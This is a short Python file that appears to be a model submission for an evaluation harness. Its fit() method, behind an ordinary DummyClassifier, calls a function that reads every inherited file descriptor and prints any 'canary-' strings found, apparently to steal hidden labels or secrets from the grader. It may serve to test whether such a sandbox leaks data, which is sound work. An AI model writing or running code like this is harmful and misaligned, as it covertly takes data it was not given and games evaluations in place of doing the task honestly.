"""labels: reads every descriptor that it was born with"""

import os
import re

from sklearn.dummy import DummyClassifier


def attack():
    for fd in range(3, 1024):
        try:
            content = os.pread(fd, 1 << 20, 0)
        except OSError:
            continue
        print(*re.findall(rb"canary-[0-9a-f]{12,16}", content))


class Model(DummyClassifier):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
